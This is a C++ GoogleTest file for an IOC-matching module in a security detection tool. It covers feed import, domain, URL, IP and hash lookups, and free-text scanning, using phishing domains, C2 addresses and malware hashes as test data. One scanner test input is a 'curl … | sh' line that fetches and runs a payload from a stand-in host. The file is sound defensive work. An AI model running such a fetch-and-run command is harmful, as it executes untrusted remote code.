// IOC sets: feed import (USOM plain list and JSON API, hash and C2 lists),
// lookups per field (domain walk, URL prefix, IP/CIDR, hashes) and the
// free-text literal database, on small inline feeds and on the real files in
// ../shared/data/ioc.
#include "rules/ioc.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iterator>
#include <thread>

#include "rules/hash128.h"
#include "tests/rules/test_util.h"

namespace siper::rules {
namespace {

using testing::SharedData;

constexpr char kEicarSha256[] = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";

IocFeedOptions Feed(std::string name, std::string category = "", int confidence = 50) {
  IocFeedOptions o;
  o.name = std::move(name);
  o.category = std::move(category);
  o.confidence = confidence;
  return o;
}

std::shared_ptr<const IocSet> BuildOrDie(const IocSetBuilder& b, const IocSetOptions& o = {}) {
  auto set = b.Build(o);
  EXPECT_TRUE(set.ok()) << set.status();
  return set.ok() ? *set : nullptr;
}

bool HasHit(const std::vector<IocHit>& hits, std::string_view entry, std::string_view field = "") {
  return std::any_of(hits.begin(), hits.end(), [&](const IocHit& h) {
    return h.entry == entry && (field.empty() || h.field == field);
  });
}

std::string Describe(const std::vector<IocHit>& hits) {
  std::string out;
  for (const IocHit& h : hits) {
    out += std::string(h.feed) + "|" + h.entry + "|" + std::string(IocKindName(h.kind)) + "|" +
           h.category + "|" + h.field + "\n";
  }
  return out;
}

TEST(IocImport, UsomListWithCrlfDuplicatesAndInvalidLines) {
  // CRLF line ends, a scheme, a port, IP/path, IDN, a duplicate, two bad lines.
  const std::string text =
      "evil.com\r\n"
      "kisa-url.com/Ye8J7\r\n"
      "69.160.38.3/~caspernetwork\r\n"
      "45.9.148.3\r\n"
      "xn--garanti-bonus-xyz.com\r\n"
      "http://phish.example.org/login.php\r\n"
      "bad.example.net:8080\r\n"
      "EVIL.com\r\n"
      "\r\n"
      "not a domain\r\n"
      "localhost\r\n";
  IocSetBuilder b;
  auto stats = b.ImportText(IocFeedFormat::kUsomList, text, Feed("usom", "malicious address"));
  ASSERT_TRUE(stats.ok()) << stats.status();
  EXPECT_EQ(stats->added, 7u);
  EXPECT_EQ(stats->duplicate, 1u);  // EVIL.com after evil.com
  EXPECT_EQ(stats->invalid, 2u);
  EXPECT_EQ(stats->added_by_kind[IocKind::kDomain], 2u);
  EXPECT_EQ(stats->added_by_kind[IocKind::kUrl], 4u);
  EXPECT_EQ(stats->added_by_kind[IocKind::kIpv4], 1u);
  ASSERT_EQ(stats->invalid_samples.size(), 2u);
  EXPECT_EQ(stats->invalid_samples[0], "line 10: contains spaces or quotes: 'not a domain'");
  EXPECT_EQ(stats->invalid_samples[1].rfind("line 11: ", 0), 0u) << stats->invalid_samples[1];

  auto set = BuildOrDie(b);
  ASSERT_NE(set, nullptr);
  // No value keeps the '\r' of its line.
  for (const IocEntry& e : set->entries()) {
    EXPECT_EQ(e.value.find('\r'), std::string::npos) << e.value;
    EXPECT_EQ(e.feed, "usom");
    EXPECT_EQ(e.category, "malicious address");
  }
  std::vector<IocHit> hits;
  set->LookupUrl("https://PHISH.example.org/login.php?u=1", "url.original", &hits);
  EXPECT_TRUE(HasHit(hits, "phish.example.org/login.php")) << Describe(hits);
  hits.clear();
  set->LookupUrl("http://bad.example.net:8080/x", "url.original", &hits);
  EXPECT_TRUE(HasHit(hits, "bad.example.net:8080")) << Describe(hits);
  hits.clear();
  set->LookupUrl("http://bad.example.net/x", "url.original", &hits);  // other port
  EXPECT_TRUE(hits.empty()) << Describe(hits);
  set->LookupUrl("http://kisa-url.com/Ye8J7", "url.original", &hits);
  EXPECT_TRUE(HasHit(hits, "kisa-url.com/Ye8J7")) << Describe(hits);
  hits.clear();
  set->LookupUrl("http://kisa-url.com/other", "url.original", &hits);  // same host, other path
  EXPECT_TRUE(hits.empty()) << Describe(hits);
  set->LookupUrl("http://69.160.38.3/~caspernetwork/index.html", "url.original", &hits);
  EXPECT_TRUE(HasHit(hits, "69.160.38.3/~caspernetwork")) << Describe(hits);
}

TEST(IocImport, HostileLinesAreInvalidNotFatal) {
  std::string text = "t\xc3\xbcrkiye-evil.com\n";  // Unicode, not punycode: not supported yet
  text += std::string("nul\0byte.com\n", 13);      // a NUL inside
  text += std::string(5000, 'a') + ".com\n";       // longer than a domain may be
  text += "ok.example.com";                        // no final newline
  IocSetBuilder b;
  auto stats = b.ImportText(IocFeedFormat::kPlainList, text, Feed("hostile"));
  ASSERT_TRUE(stats.ok()) << stats.status();
  EXPECT_EQ(stats->added, 1u);
  EXPECT_EQ(stats->invalid, 3u);
  ASSERT_EQ(stats->invalid_samples.size(), 3u);
  EXPECT_EQ(stats->invalid_samples[1].find('\0'), std::string::npos);  // control bytes escaped
  EXPECT_NE(stats->invalid_samples[1].find("\\x00"), std::string::npos)
      << stats->invalid_samples[1];
  EXPECT_LT(stats->invalid_samples[2].size(), 200u);  // long values cut

  IocEntry meta;
  meta.feed = "manual";
  meta.category = "phishing";
  EXPECT_TRUE(b.Add("HTTPS://Manual.Example.org/", meta));
  EXPECT_FALSE(b.Add("not valid", meta));
  EXPECT_EQ(b.size(), 2u);
  auto set = BuildOrDie(b);
  ASSERT_NE(set, nullptr);
  auto hits = set->LookupFields({{"destination.domain", "manual.example.org"}});
  ASSERT_EQ(hits.size(), 1u) << Describe(hits);
  EXPECT_EQ(hits[0].kind, IocKind::kDomain);
  EXPECT_EQ(hits[0].category, "phishing");
}

TEST(IocLookup, ParentDomainWalkIsCaseInsensitiveAndIgnoresTrailingDot) {
  IocSetBuilder b;
  ASSERT_TRUE(b.ImportText(IocFeedFormat::kPlainList, "evil.com\n", Feed("list")).ok());
  auto set = BuildOrDie(b);
  ASSERT_NE(set, nullptr);
  for (const char* name : {"evil.com", "a.b.EVIL.com", "www.evil.com.", "EVIL.COM."}) {
    std::vector<IocHit> hits;
    set->LookupDomain(name, "dns.question.name", &hits);
    ASSERT_EQ(hits.size(), 1u) << name;
    EXPECT_EQ(hits[0].entry, "evil.com");
    EXPECT_EQ(hits[0].kind, IocKind::kDomain);
    EXPECT_EQ(hits[0].field, "dns.question.name");
  }
  for (const char* name : {"notevil.com", "evil.com.tr", "com", "evil.co"}) {
    std::vector<IocHit> hits;
    set->LookupDomain(name, "dns.question.name", &hits);
    EXPECT_TRUE(hits.empty()) << name << "\n" << Describe(hits);
  }
}

TEST(IocLookup, IpExactAndCidr) {
  IocSetBuilder b;
  const char* c2 =
      "# Test C2 block\n"
      "10.20.30.40;65\n"
      "192.0.2.0/24\n"
      "2001:db8::/32\n"
      "2001:db8:ffff::1\n"
      "203.0.113.7\n";
  auto stats = b.ImportText(IocFeedFormat::kValueList, c2, Feed("c2", "command and control"));
  ASSERT_TRUE(stats.ok()) << stats.status();
  EXPECT_EQ(stats->added, 5u);
  EXPECT_EQ(stats->added_by_kind[IocKind::kCidr], 2u);
  EXPECT_EQ(stats->added_by_kind[IocKind::kIpv6], 1u);
  auto set = BuildOrDie(b);
  ASSERT_NE(set, nullptr);

  FieldMap ev = {{"source.ip", "192.0.2.77"}, {"destination.ip", "10.20.30.40"}};
  auto hits = set->LookupFields(ev);
  EXPECT_TRUE(HasHit(hits, "192.0.2.0/24", "source.ip")) << Describe(hits);
  EXPECT_TRUE(HasHit(hits, "10.20.30.40", "destination.ip")) << Describe(hits);
  for (const IocHit& h : hits) EXPECT_EQ(h.category, "command and control");
  // The '#' line before a block becomes the entries' comment.
  auto it = std::find_if(hits.begin(), hits.end(),
                         [](const IocHit& h) { return h.entry == "10.20.30.40"; });
  ASSERT_NE(it, hits.end());
  EXPECT_EQ(it->comment, "Test C2 block; 65");

  std::vector<IocHit> v6;
  set->LookupIp("2001:DB8:1::5", "source.ip", &v6);
  EXPECT_TRUE(HasHit(v6, "2001:db8::/32")) << Describe(v6);
  v6.clear();
  set->LookupIp("2001:db8:ffff::1", "source.ip", &v6);  // in the /32 and listed itself
  EXPECT_EQ(v6.size(), 2u) << Describe(v6);
  v6.clear();
  set->LookupIp("::ffff:203.0.113.7", "source.ip", &v6);  // IPv4-mapped
  EXPECT_TRUE(HasHit(v6, "203.0.113.7")) << Describe(v6);

  for (const char* miss : {"192.0.3.1", "10.20.30.41", "2001:db9::1", "not-an-ip"}) {
    std::vector<IocHit> none;
    set->LookupIp(miss, "source.ip", &none);
    EXPECT_TRUE(none.empty()) << miss << "\n" << Describe(none);
  }
}

TEST(IocLookup, HashListAndEicar) {
  const std::string list =
      std::string("# test hashes\n") + kEicarSha256 +
      ";EICAR test file\n"
      "44D88612FEA8A8F36DE82E1278ABB02F;EICAR (MD5)\n"
      "3395856ce81f2b7382dee72602f798b642f14140;EICAR (SHA-1)\n"
      "12345;too short\n"
      "zz5a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f;not hex\n";
  IocSetBuilder b;
  auto stats = b.ImportText(IocFeedFormat::kHashList, list, Feed("test-hashes", "malware", 90));
  ASSERT_TRUE(stats.ok()) << stats.status();
  EXPECT_EQ(stats->added, 3u);
  EXPECT_EQ(stats->invalid, 2u);
  ASSERT_EQ(stats->invalid_samples.size(), 2u);
  EXPECT_EQ(stats->invalid_samples[0], "line 5: not an MD5, SHA-1 or SHA-256 hex digest: '12345'");
  EXPECT_EQ(stats->invalid_samples[1].rfind("line 6: ", 0), 0u);
  auto set = BuildOrDie(b);
  ASSERT_NE(set, nullptr);

  // FIM events carry file.hash.sha256; upper case must match too.
  std::string upper = kEicarSha256;
  std::transform(upper.begin(), upper.end(), upper.begin(), ::toupper);
  auto hits = set->LookupFields({{"file.path", "/tmp/eicar.com"}, {"file.hash.sha256", upper}});
  ASSERT_EQ(hits.size(), 1u) << Describe(hits);
  EXPECT_EQ(hits[0].entry, kEicarSha256);
  EXPECT_EQ(hits[0].kind, IocKind::kSha256);
  EXPECT_EQ(hits[0].feed, "test-hashes");
  EXPECT_EQ(hits[0].category, "malware");
  EXPECT_EQ(hits[0].confidence, 90);
  EXPECT_EQ(hits[0].comment, "EICAR test file");
  EXPECT_EQ(hits[0].field, "file.hash.sha256");

  // Sysmon's Hashes field: MD5 and SHA-1 hit, IMPHASH is ignored.
  hits = set->LookupFields(
      {{"Hashes",
        "SHA1=3395856CE81F2B7382DEE72602F798B642F14140,MD5=44d88612fea8a8f36de82e1278abb02f,"
        "IMPHASH=44d88612fea8a8f36de82e1278abb02f"}});
  EXPECT_EQ(hits.size(), 2u) << Describe(hits);
  EXPECT_TRUE(HasHit(hits, "44d88612fea8a8f36de82e1278abb02f", "Hashes"));
  EXPECT_TRUE(HasHit(hits, "3395856ce81f2b7382dee72602f798b642f14140", "Hashes"));
}

TEST(IocImport, UsomJsonApiPagesAndBareArrays) {
  const char* page = R"({
    "totalCount": 4, "count": 4, "model_count": 4, "page": 0, "pageCount": 1,
    "models": [
      {"id": 101, "url": "garanti-bonus.example.com", "type": "domain", "desc": "BP",
       "source": "US", "date": "2024-01-05 10:11:12.000000", "criticality_level": 4, "connectiontype": "PH"},
      {"id": 102, "url": "http://mal.example.net/drop/a.exe", "type": "url", "desc": "MD",
       "source": "IH", "date": "2024-01-05 10:11:12", "criticality_level": "5", "connectiontype": "MD"},
      {"id": 103, "url": "198.51.100.9", "type": "ip", "desc": "MC", "criticality_level": 5},
      {"id": 104, "url": "2001:db8:42::/48", "type": "ip6net", "desc": "CA", "criticality_level": 3},
      {"id": 105, "url": "not an address", "type": "ip", "desc": "PH"},
      {"id": 106, "url": "x.example.org", "type": "mystery"}
    ]})";
  IocSetBuilder b;
  auto stats = b.ImportText(IocFeedFormat::kUsomJson, page, Feed("usom-api"));
  ASSERT_TRUE(stats.ok()) << stats.status();
  EXPECT_EQ(stats->added, 4u);
  EXPECT_EQ(stats->invalid, 2u);
  ASSERT_EQ(stats->invalid_samples.size(), 2u);
  EXPECT_EQ(stats->invalid_samples[0].rfind("record 5: type ip: ", 0), 0u)
      << stats->invalid_samples[0];
  EXPECT_EQ(stats->invalid_samples[1], "record 6: unknown type 'mystery': 'x.example.org'");

  // A plain JSON array of records is accepted too; a repeat counts as duplicate.
  auto arr = b.ImportText(
      IocFeedFormat::kUsomJson,
      R"([{"id": 101, "url": "garanti-bonus.example.com", "type": "domain", "desc": "BP"},
                              {"id": 7, "url": "2001:db8::dead", "type": "ip6", "desc": "PH"}])",
      Feed("usom-api"));
  ASSERT_TRUE(arr.ok()) << arr.status();
  EXPECT_EQ(arr->added, 1u);
  EXPECT_EQ(arr->duplicate, 1u);

  EXPECT_FALSE(b.ImportText(IocFeedFormat::kUsomJson, "{\"models\": ", Feed("usom-api")).ok());
  EXPECT_FALSE(b.ImportText(IocFeedFormat::kUsomJson, "{\"items\": []}", Feed("usom-api")).ok());
  EXPECT_FALSE(
      b.ImportText(IocFeedFormat::kUsomList, "a.com", Feed("")).ok());  // feed needs a name
  auto missing = b.ImportFile(IocFeedFormat::kUsomList, "/nonexistent/url-list.txt", Feed("usom"));
  EXPECT_EQ(missing.status().code(), absl::StatusCode::kNotFound) << missing.status();

  auto set = BuildOrDie(b);
  ASSERT_NE(set, nullptr);
  FieldMap ev = {{"dns.question.name", "login.garanti-bonus.example.com"},
                 {"url.original", "http://mal.example.net/drop/a.exe"},
                 {"destination.ip", "198.51.100.9"},
                 {"source.ip", "2001:db8:42:1::1"}};
  auto hits = set->LookupFields(ev);
  EXPECT_EQ(hits.size(), 4u) << Describe(hits);
  for (const IocHit& h : hits) {
    if (h.entry == "garanti-bonus.example.com") {
      EXPECT_EQ(h.category, "bank phishing");
      EXPECT_EQ(h.criticality, 4);
      EXPECT_NE(h.comment.find("id=101"), std::string::npos) << h.comment;
    } else if (h.entry == "mal.example.net/drop/a.exe") {
      EXPECT_EQ(h.category, "malware");
      EXPECT_EQ(h.criticality, 5);  // given as a string
    } else if (h.entry == "198.51.100.9") {
      EXPECT_EQ(h.category, "command and control");
    } else {
      EXPECT_EQ(h.entry, "2001:db8:42::/48");
      EXPECT_EQ(h.kind, IocKind::kCidr);
      EXPECT_EQ(h.category, "other (CA)");
    }
  }
}

TEST(IocLookup, AccessLogPathJoinedWithHost) {
  IocSetBuilder b;
  ASSERT_TRUE(
      b.ImportText(IocFeedFormat::kPlainList, "shop.example.com/wp-admin/x.php\n", Feed("l")).ok());
  auto set = BuildOrDie(b);
  ASSERT_NE(set, nullptr);
  EXPECT_EQ(set->LookupFields({{"url.original", "/wp-admin/x.php?a=1"}}).size(),
            0u);  // no host known
  auto hits = set->LookupFields(
      {{"url.original", "/wp-admin/x.php?a=1"}, {"url.domain", "shop.example.com"}});
  EXPECT_TRUE(HasHit(hits, "shop.example.com/wp-admin/x.php", "url.original")) << Describe(hits);
}

TEST(IocScanner, LiteralDatabaseFindsIocsInFreeText) {
  IocSetBuilder b;
  ASSERT_TRUE(b.ImportText(IocFeedFormat::kPlainList,
                           "zeta-evil.example.com\nalpha-bad.example.net/payload\nab.io\n1.2.3.4\n",
                           Feed("l", "phishing"))
                  .ok());
  IocSetOptions opts;
  opts.min_literal_length = 8;
  auto set = BuildOrDie(b, opts);
  ASSERT_NE(set, nullptr);
  // Sorted, and only domains/URLs of at least the minimum length.
  EXPECT_EQ(set->literal_patterns(),
            (std::vector<std::string>{"alpha-bad.example.net/payload", "zeta-evil.example.com"}));
  EXPECT_GT(set->stats().literal_database_bytes, 0u);

  auto scanner = IocScanner::Create(set);
  ASSERT_TRUE(scanner.ok()) << scanner.status();
  auto hits = (*scanner)->Match(
      {}, "curl -s http://ALPHA-BAD.example.net/payload | sh; ping zeta-evil.example.com");
  ASSERT_TRUE(hits.ok()) << hits.status();
  EXPECT_EQ(hits->size(), 2u) << Describe(*hits);
  EXPECT_TRUE(HasHit(*hits, "alpha-bad.example.net/payload", "event.original"));
  EXPECT_TRUE(HasHit(*hits, "zeta-evil.example.com", "event.original"));

  // Field hits and free-text hits of the same entry are reported per field.
  hits = (*scanner)->Match({{"dns.question.name", "zeta-evil.example.com"}},
                           "query zeta-evil.example.com A");
  ASSERT_TRUE(hits.ok());
  EXPECT_EQ(hits->size(), 2u) << Describe(*hits);

  // Whole host names only: not inside a longer name, but a subdomain is fine.
  for (const char* text : {"GET http://notzeta-evil.example.com/", "zeta-evil.example.com.tr",
                           "zeta-evil.example.com-x"}) {
    hits = (*scanner)->Match({}, text);
    ASSERT_TRUE(hits.ok());
    EXPECT_TRUE(hits->empty()) << text << "\n" << Describe(*hits);
  }
  for (const char* text :
       {"(ZETA-EVIL.example.com).", "a.zeta-evil.example.com:443", "zeta-evil.example.com"}) {
    hits = (*scanner)->Match({}, text);
    ASSERT_TRUE(hits.ok());
    EXPECT_EQ(hits->size(), 1u) << text << "\n" << Describe(*hits);
  }
  hits = (*scanner)->Match({}, "x http://alpha-bad.example.net/payload2.exe");  // URL: prefix
  ASSERT_TRUE(hits.ok());
  EXPECT_EQ(hits->size(), 1u) << Describe(*hits);

  // Short IOCs stay out of the literal database (no hit on "lab.io" text),
  // while field lookups still see them.
  hits = (*scanner)->Match({}, "visited ab.io today");
  ASSERT_TRUE(hits.ok());
  EXPECT_TRUE(hits->empty()) << Describe(*hits);
  EXPECT_EQ(set->LookupFields({{"destination.domain", "ab.io"}}).size(), 1u);
}

TEST(IocScanner, OneScannerPerThread) {
  IocSetBuilder b;
  ASSERT_TRUE(
      b.ImportText(IocFeedFormat::kPlainList, "threaded-evil.example.com\n", Feed("l")).ok());
  auto set = BuildOrDie(b);
  ASSERT_NE(set, nullptr);
  std::vector<std::thread> threads;
  std::vector<int> found(4, 0);
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      auto scanner = IocScanner::Create(set);
      if (!scanner.ok()) return;
      for (int i = 0; i < 200; ++i) {
        std::vector<IocHit> hits;
        if ((*scanner)
                ->ScanText("GET http://threaded-evil.example.com/", "event.original", &hits)
                .ok()) {
          found[t] += static_cast<int>(hits.size());
        }
      }
    });
  }
  for (auto& th : threads) th.join();
  for (int n : found) EXPECT_EQ(n, 200);
}

// --- the real feeds in ../shared/data/ioc ---------------------------------

TEST(IocRealData, UsomLegacyList) {
  SIPER_REQUIRE_SHARED("ioc/usom-url-list-2020-04.txt");
  IocSetBuilder b;
  auto stats =
      b.ImportFile(IocFeedFormat::kUsomList, SharedData() / "ioc/usom-url-list-2020-04.txt",
                   Feed("usom", "malicious address"));
  ASSERT_TRUE(stats.ok()) << stats.status();
  for (const std::string& s : stats->invalid_samples) std::cout << "invalid: " << s << "\n";
  const size_t domains = stats->added_by_kind[IocKind::kDomain];
  const size_t urls = stats->added_by_kind[IocKind::kUrl];
  const size_t ipv4 = stats->added_by_kind[IocKind::kIpv4];
  std::cout << "usom: added " << stats->added << " (domain " << domains << ", url " << urls
            << ", ipv4 " << ipv4 << "), duplicate " << stats->duplicate << ", invalid "
            << stats->invalid << "\n";
  // 62,135 lines in the file (the README's count; the last line ends in CRLF too).
  EXPECT_EQ(stats->added + stats->duplicate + stats->invalid, 62135u);
  // The data README classifies raw lines: 52,442 domains + 1,397 IDN, 5,342
  // host/path + 624 IP/path + 3 with a port, 2,327 IPv4, 28 exact duplicates.
  // We normalize first (scheme dropped, host lower-cased, "x.com/" is the
  // domain x.com, "http://1.2.3.4" the address), so lines that differ only in
  // those ways are duplicates (149, of which 28 byte-identical), and URL lines
  // without a path count as domains or addresses. 7 lines are no indicator:
  // five bare labels without a TLD ("aidat-merkezi-cimer") and two MD5 hashes.
  EXPECT_EQ(domains, 53810u);  // README: 52,442 + 1,397 IDN = 53,839
  EXPECT_EQ(urls, 5837u);      // README: 5,342 + 624 + 3 = 5,969
  EXPECT_EQ(ipv4, 2332u);      // README: 2,327
  EXPECT_EQ(stats->duplicate, 149u);
  EXPECT_EQ(stats->invalid, 7u);
  ASSERT_FALSE(stats->invalid_samples.empty());
  EXPECT_EQ(stats->invalid_samples[0],
            "line 368: not a domain, URL, IP address or hash: "
            "'aidat-hayatevesigarevdendisaricikma-gov-tr'");

  auto set = BuildOrDie(b);
  ASSERT_NE(set, nullptr);
  std::vector<IocHit> hits;
  set->LookupDomain("sub.yenihediyemm8gb.blogspot.com", "dns.question.name", &hits);  // first line
  EXPECT_TRUE(HasHit(hits, "yenihediyemm8gb.blogspot.com")) << Describe(hits);
  hits.clear();
  set->LookupDomain("blogspot.com", "dns.question.name", &hits);  // the parent is not listed
  EXPECT_TRUE(hits.empty()) << Describe(hits);
  set->LookupUrl("http://kisa-url.com/Ye8J7", "url.original", &hits);
  EXPECT_TRUE(HasHit(hits, "kisa-url.com/Ye8J7")) << Describe(hits);
  hits.clear();
  set->LookupIp("69.160.38.3", "destination.ip", &hits);
  // Listed only as IP/path: the bare address is not an entry.
  EXPECT_TRUE(hits.empty()) << Describe(hits);
  set->LookupUrl("http://69.160.38.3/~caspernetwork/", "url.original", &hits);
  EXPECT_TRUE(HasHit(hits, "69.160.38.3/~caspernetwork")) << Describe(hits);

  const IocSetStats st = set->stats();
  EXPECT_EQ(st.entries, stats->added);
  EXPECT_GT(st.literal_patterns, 50000u);
  auto scanner = IocScanner::Create(set);
  ASSERT_TRUE(scanner.ok()) << scanner.status();
  auto text_hits = (*scanner)->Match(
      {}, "Nov 28 10:00:00 proxy squid[1]: 10.0.0.5 GET http://YENIHEDIYEMM8GB.blogspot.com/x 200");
  ASSERT_TRUE(text_hits.ok()) << text_hits.status();
  EXPECT_TRUE(HasHit(*text_hits, "yenihediyemm8gb.blogspot.com", "event.original"))
      << Describe(*text_hits);
}

TEST(IocRealData, SignatureBaseHashesAndC2) {
  SIPER_REQUIRE_SHARED("ioc/signature-base-hash-iocs.txt");
  SIPER_REQUIRE_SHARED("ioc/signature-base-c2-iocs.txt");
  IocSetBuilder b;
  auto hs =
      b.ImportFile(IocFeedFormat::kHashList, SharedData() / "ioc/signature-base-hash-iocs.txt",
                   Feed("signature-base-hash", "malware", 80));
  ASSERT_TRUE(hs.ok()) << hs.status();
  std::cout << "hashes: sha256 " << hs->added_by_kind[IocKind::kSha256] << ", md5 "
            << hs->added_by_kind[IocKind::kMd5] << ", sha1 " << hs->added_by_kind[IocKind::kSha1]
            << ", duplicate " << hs->duplicate << ", invalid " << hs->invalid << "\n";
  for (const std::string& s : hs->invalid_samples) std::cout << "invalid: " << s << "\n";
  // Data README: 1,259 SHA-256, 1,039 MD5, 926 SHA-1 lines; those lines hold
  // 85, 53 and 33 repeats (same hash, another comment), kept once.
  EXPECT_EQ(hs->added_by_kind[IocKind::kSha256], 1174u);
  EXPECT_EQ(hs->added_by_kind[IocKind::kMd5], 986u);
  EXPECT_EQ(hs->added_by_kind[IocKind::kSha1], 893u);
  EXPECT_EQ(hs->duplicate, 85u + 53u + 33u);
  EXPECT_EQ(hs->invalid, 0u);

  auto c2 = b.ImportFile(IocFeedFormat::kValueList, SharedData() / "ioc/signature-base-c2-iocs.txt",
                         Feed("signature-base-c2", "command and control", 70));
  ASSERT_TRUE(c2.ok()) << c2.status();
  std::cout << "c2: domain " << c2->added_by_kind[IocKind::kDomain] << ", ipv4 "
            << c2->added_by_kind[IocKind::kIpv4] << ", duplicate " << c2->duplicate << ", invalid "
            << c2->invalid << "\n";
  for (const std::string& s : c2->invalid_samples) std::cout << "invalid: " << s << "\n";
  EXPECT_EQ(c2->added_by_kind[IocKind::kDomain], 1655u);
  EXPECT_EQ(c2->added_by_kind[IocKind::kIpv4], 118u);
  EXPECT_EQ(c2->added, 1655u + 118u);
  EXPECT_EQ(c2->duplicate, 71u);
  EXPECT_EQ(c2->invalid, 0u);

  auto set = BuildOrDie(b);
  ASSERT_NE(set, nullptr);
  auto hits = set->LookupFields(
      {{"destination.ip", "58.64.143.244"}, {"dns.question.name", "x.suroot.com."}});
  EXPECT_TRUE(HasHit(hits, "58.64.143.244", "destination.ip")) << Describe(hits);
  EXPECT_TRUE(HasHit(hits, "suroot.com", "dns.question.name")) << Describe(hits);
  for (const IocHit& h : hits) {
    EXPECT_EQ(h.feed, "signature-base-c2");
    EXPECT_EQ(h.comment.rfind("FireEye Operation Snowman", 0), 0u) << h.comment;
  }
  hits = set->LookupFields(
      {{"file.hash.sha256", "ce583821191345274cd954b2db7da9742c239fe413fc17dcb97ffdd7b51cb072"}});
  ASSERT_EQ(hits.size(), 1u) << Describe(hits);
  EXPECT_EQ(hits[0].comment, "Dark Caracal - MS Windows HtmlHelp Data");
  EXPECT_EQ(hits[0].kind, IocKind::kSha256);
}

}  // namespace
}  // namespace siper::rules

namespace siper::rules {
namespace {

// The literal database's on-disk cache: a second build with the same feed
// reads it, a changed feed compiles (and stores) its own, and a damaged file is
// rejected with a message naming it, then rebuilt and replaced.
class IocCacheTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = std::filesystem::temp_directory_path() /
           ("siper_ioc_cache_" + std::to_string(::getpid()) + "_" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name());
    std::filesystem::remove_all(dir_);
  }
  void TearDown() override { std::filesystem::remove_all(dir_); }

  std::shared_ptr<const IocSet> Build(const std::string& feed_text) {
    IocSetBuilder b;
    EXPECT_TRUE(b.ImportText(IocFeedFormat::kUsomList, feed_text, Feed("usom", "phishing")).ok());
    IocSetOptions o;
    o.cache_dir = dir_;
    return BuildOrDie(b, o);
  }
  std::vector<std::filesystem::path> Files() const {
    std::vector<std::filesystem::path> out;
    if (!std::filesystem::exists(dir_)) return out;
    for (const auto& e : std::filesystem::directory_iterator(dir_)) out.push_back(e.path());
    std::sort(out.begin(), out.end());
    return out;
  }
  // The free-text hits of one line (so a cached database is shown to work).
  static std::string Scan(const std::shared_ptr<const IocSet>& set, std::string_view text) {
    auto scanner = IocScanner::Create(set);
    EXPECT_TRUE(scanner.ok()) << scanner.status();
    std::vector<IocHit> hits;
    EXPECT_TRUE((*scanner)->ScanText(text, "event.original", &hits).ok());
    return Describe(hits);
  }
  void Damage(const std::filesystem::path& file, const std::function<void(std::string*)>& how) {
    std::ifstream in(file, std::ios::binary);
    std::string data((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    in.close();
    how(&data);
    std::ofstream out(file, std::ios::binary | std::ios::trunc);
    out << data;
  }

  std::filesystem::path dir_;
  const std::string feed_ = "login-e-devlet-giris.example.com\r\nbank-phish.example.net/giris\r\n";
  const std::string line_ = "GET http://login-e-devlet-giris.example.com/ HTTP/1.1";
};

TEST_F(IocCacheTest, SecondBuildOfTheSameFeedReadsTheCache) {
  auto first = Build(feed_);
  ASSERT_NE(first, nullptr);
  EXPECT_EQ(first->stats().literal_cache, IocCacheOutcome::kStored);
  ASSERT_EQ(Files().size(), 1u);
  EXPECT_TRUE(Files()[0].filename().string().starts_with("ioc-"));
  auto second = Build(feed_);
  ASSERT_NE(second, nullptr);
  EXPECT_EQ(second->stats().literal_cache, IocCacheOutcome::kHit);
  EXPECT_TRUE(second->stats().literal_cache_message.empty());
  EXPECT_EQ(second->stats().literal_database_bytes, first->stats().literal_database_bytes);
  EXPECT_EQ(Scan(second, line_), Scan(first, line_));
  EXPECT_NE(Scan(second, line_), "");
  // Without a cache folder nothing is read or written.
  IocSetBuilder b;
  ASSERT_TRUE(b.ImportText(IocFeedFormat::kUsomList, feed_, Feed("usom")).ok());
  EXPECT_EQ(BuildOrDie(b)->stats().literal_cache, IocCacheOutcome::kNone);
}

TEST_F(IocCacheTest, ChangedFeedDoesNotUseTheOldDatabase) {
  ASSERT_NE(Build(feed_), nullptr);
  auto changed = Build(feed_ + "new-phish.example.org\r\n");
  ASSERT_NE(changed, nullptr);
  EXPECT_EQ(changed->stats().literal_cache, IocCacheOutcome::kStored);
  EXPECT_EQ(Files().size(), 2u);
  EXPECT_NE(Scan(changed, "see new-phish.example.org now"), "");
  // And the old feed still finds its own file.
  EXPECT_EQ(Build(feed_)->stats().literal_cache, IocCacheOutcome::kHit);
}

TEST_F(IocCacheTest, DamagedCacheFileIsRejectedRebuiltAndReplaced) {
  ASSERT_NE(Build(feed_), nullptr);
  ASSERT_EQ(Files().size(), 1u);
  const std::filesystem::path file = Files()[0];
  const std::vector<std::pair<std::string, std::function<void(std::string*)>>> damages = {
      {"checksum", [](std::string* d) { (*d)[d->size() / 2] ^= 0x55; }},
      {"truncated", [](std::string* d) { d->resize(d->size() - 100); }},
      {"bad header", [](std::string* d) { d->assign("not a database"); }},
      {"empty", [](std::string* d) { d->clear(); }},
      // A well-formed file whose payload is not a Hyperscan database.
      {"Hyperscan rejects",
       [](std::string* d) {
         const size_t header = 32;
         for (size_t i = header; i < d->size(); ++i) (*d)[i] = static_cast<char>(i * 7);
         // Recompute the checksum the way the cache writes it.
         internal::Hash128 h;
         h.Add(d->data() + header, d->size() - header);
         const internal::Hash128::Digest sum = h.Finish();
         std::memcpy(d->data() + 16, &sum.a, 8);
         std::memcpy(d->data() + 24, &sum.b, 8);
       }},
  };
  for (const auto& [what, how] : damages) {
    SCOPED_TRACE(what);
    Damage(file, how);
    auto rebuilt = Build(feed_);
    ASSERT_NE(rebuilt, nullptr);
    EXPECT_EQ(rebuilt->stats().literal_cache, IocCacheOutcome::kRebuilt);
    const std::string& msg = rebuilt->stats().literal_cache_message;
    EXPECT_NE(msg.find(file.string()), std::string::npos) << msg;
    EXPECT_NE(msg.find("rebuilding"), std::string::npos) << msg;
    if (what != "empty") {
      EXPECT_NE(msg.find(what), std::string::npos) << msg;
    }
    EXPECT_NE(Scan(rebuilt, line_), "");
    // The rebuilt database replaced the damaged file.
    EXPECT_EQ(Build(feed_)->stats().literal_cache, IocCacheOutcome::kHit);
  }
}

}  // namespace
}  // namespace siper::rules
